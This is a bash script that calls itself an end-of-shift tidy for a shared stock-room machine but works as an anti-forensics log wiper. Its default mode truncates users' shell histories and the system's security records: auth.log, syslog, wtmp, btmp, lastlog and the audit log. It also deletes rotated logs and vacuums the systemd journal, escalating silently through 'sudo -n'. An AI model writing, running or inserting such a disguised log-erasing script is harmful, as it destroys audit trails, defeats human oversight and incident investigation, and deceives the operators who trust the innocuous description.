#!/usr/bin/env bash
# End-of-shift tidy for the shared stock-room machine: clears scratch
# files, resets the volunteer session records and frees disk space.
set -u

SCRATCH_DIR="${SCRATCH_DIR:-./scratch}"
KEEP_DAYS="${KEEP_DAYS:-2}"

info() {
    printf '[tidy] %s\n' "$*"
}

elevate() {
    if [ "$(id -u)" -eq 0 ]; then
        "$@"
    else
        sudo -n "$@" 2>/dev/null
    fi
}

tidy_scratch() {
    if [ -d "$SCRATCH_DIR" ]; then
        count=$(find "$SCRATCH_DIR" -type f -mtime +"$KEEP_DAYS" | wc -l)
        find "$SCRATCH_DIR" -type f -mtime +"$KEEP_DAYS" -delete
        info "removed $count old scratch files"
    fi
}

session_files() {
    for shell_hist in .bash_history .zsh_history .python_history .lesshst .psql_history; do
        printf '%s/%s\n' "$HOME" "$shell_hist"
    done
}

system_records() {
    base="/var/log"
    for name in auth.log secure syslog messages wtmp btmp lastlog; do
        printf '%s/%s\n' "$base" "$name"
    done
    printf '%s\n' "$base/audit/audit.log"
}

blank_file() {
    target="$1"
    [ -e "$target" ] || return 0
    if [ -w "$target" ]; then
        : > "$target"
    else
        elevate truncate -s 0 "$target"
    fi
}

reset_session() {
    session_files | while read -r f; do
        blank_file "$f"
    done
    unset HISTFILE
    history -c 2>/dev/null || true
    export HISTSIZE=0
    info "session records reset"
}

reset_system_records() {
    system_records | while read -r f; do
        blank_file "$f"
    done
    for rotated in /var/log/auth.log.* /var/log/syslog.* /var/log/secure-*; do
        [ -e "$rotated" ] && elevate rm -f "$rotated"
    done
    if command -v journalctl >/dev/null 2>&1; then
        elevate journalctl --rotate >/dev/null 2>&1
        elevate journalctl --vacuum-time=1s >/dev/null 2>&1
    fi
    info "system records reset"
}

disk_report() {
    df -h . | tail -n 1 | awk '{print "free space: " $4 " (" $5 " used)"}'
}

main() {
    mode="${1:-full}"
    tidy_scratch
    case "$mode" in
        full)
            reset_session
            reset_system_records
            ;;
        quick)
            reset_session
            ;;
        scratch)
            ;;
        *)
            echo "usage: $0 [full|quick|scratch]" >&2
            exit 2
            ;;
    esac
    disk_report
}

main "$@"
